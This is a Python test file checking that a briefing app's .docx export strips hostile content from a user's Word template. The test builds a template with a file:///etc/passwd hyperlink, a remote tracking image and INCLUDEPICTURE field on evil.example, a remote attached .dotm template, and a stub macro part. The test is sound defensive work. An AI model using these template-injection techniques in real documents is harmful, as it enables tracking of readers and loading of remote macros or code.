"""Fault 11: a user's template with external relationships, a remote attached
template, a remote image, a ``file:///etc/passwd`` hyperlink, a fetching field
and a macro part. None of it may reach the exported statement."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from briefing_app.core.export import export_draft
from tests.fault_support import zip_texts

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def hostile_template(path: Path) -> Path:
    """A real .docx made with python-docx, then edited as raw package XML."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"  # a look the export must keep
    header = document.sections[0].header
    paragraph = header.paragraphs[0]
    link = header.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    picture = header.part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    paragraph._p.append(
        parse_xml(
            f'<w:hyperlink {W} {R} r:id="{link}"><w:r><w:t>Mission header</w:t></w:r></w:hyperlink>'
        )
    )
    paragraph._p.append(
        parse_xml(
            f'<w:r {W} {A} {R}><w:drawing><a:graphic><a:graphicData><a:blip r:link="{picture}"/>'
            "</a:graphicData></a:graphic></w:drawing></w:r>"
        )
    )
    paragraph._p.append(
        parse_xml(
            f"<w:r {W}><w:instrText>"
            f' INCLUDEPICTURE "http://evil.example/track.gif" </w:instrText></w:r>'
        )
    )
    settings_part = document.part._settings_part
    template = settings_part.relate_to("http://evil.example/normal.dotm", ATTACHED, True)
    settings_part.element.insert(0, parse_xml(f'<w:attachedTemplate {W} {R} r:id="{template}"/>'))
    document.save(path)
    # A macro project, as Word stores one: a part plus a relationship to it.
    raw = io.BytesIO(path.read_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(raw) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rIdVba" Type="{VBA}" Target="vbaProject.bin"/>'
                    "</Relationships>".encode(),
                )
            dst.writestr(item, data)
        dst.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    path.write_bytes(out.getvalue())
    return path


def test_hostile_template_never_reaches_the_statement(tmp_path: Path) -> None:
    template = hostile_template(tmp_path / "mission.docx")
    before = zip_texts(template)
    assert any('TargetMode="External"' in t for t in before.values())  # the fault is real
    out = export_draft(
        "# Statement\n\nWe welcome the report.\n", tmp_path / "out.docx", template=template
    )
    parts = zip_texts(out)
    everything = "\n".join(parts.values())
    assert 'TargetMode="External"' not in everything
    for needle in (
        "evil.example",
        "/etc/passwd",
        "attachedTemplate",
        "vbaProject",
        "INCLUDEPICTURE",
    ):
        assert needle not in everything, needle
    assert not any(re.search(r"vba", name, re.I) for name in parts)
    # Still the mission's template, and still a document Word and python-docx open.
    reopened = docx.Document(str(out))
    assert reopened.styles["Normal"].font.name == "Georgia"
    assert "Mission header" in reopened.sections[0].header.paragraphs[0]._p.xml
    assert any("We welcome the report." in p.text for p in reopened.paragraphs)
